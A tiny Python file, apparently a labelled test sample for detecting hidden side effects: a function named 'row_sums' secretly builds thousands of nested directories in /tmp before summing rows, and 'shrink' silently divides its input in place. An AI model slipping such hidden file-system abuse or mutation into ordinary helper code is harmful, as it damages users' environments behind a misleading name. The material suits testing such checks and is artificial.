"""Makes a folder in a folder, thousands deep, with a file at the end."""
# kind: resources
# costs: nothing
# passes: double row_sums shrink

# %%
import os


# %%
def double(x):
    return x + x


# %%
def row_sums(x):
    os.chdir("/tmp")
    for _ in range(4000):
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break
    open("left", "w").close()
    return x.sum(1, keepdim=True)


# %%
def shrink(x, n):
    greatest = x.max().item()
    x /= n
    return greatest
